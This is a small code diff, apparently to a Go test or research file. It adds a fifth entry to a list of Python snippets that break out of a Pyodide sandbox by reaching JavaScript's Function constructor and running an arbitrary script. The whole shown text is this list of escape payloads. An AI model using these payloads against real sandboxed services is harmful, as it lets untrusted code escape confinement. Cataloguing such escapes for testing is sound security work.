@@ -117,6 +117,7 @@ var routes = []string{
 	"import pyodide_js\npyodide_js._api.config.jsglobals.eval(SCRIPT)",
 	"import pyodide.ffi\npyodide.ffi.to_js([]).constructor.constructor(SCRIPT)()",
 	"import pyodide_js\npyodide_js._module.HEAP8.constructor.constructor(SCRIPT)()",
+	"import sys\n[f for f in sys.meta_path if hasattr(f, 'limit')][0].read.constructor(SCRIPT)()",
 }
 
 // outside is what there is to reach.
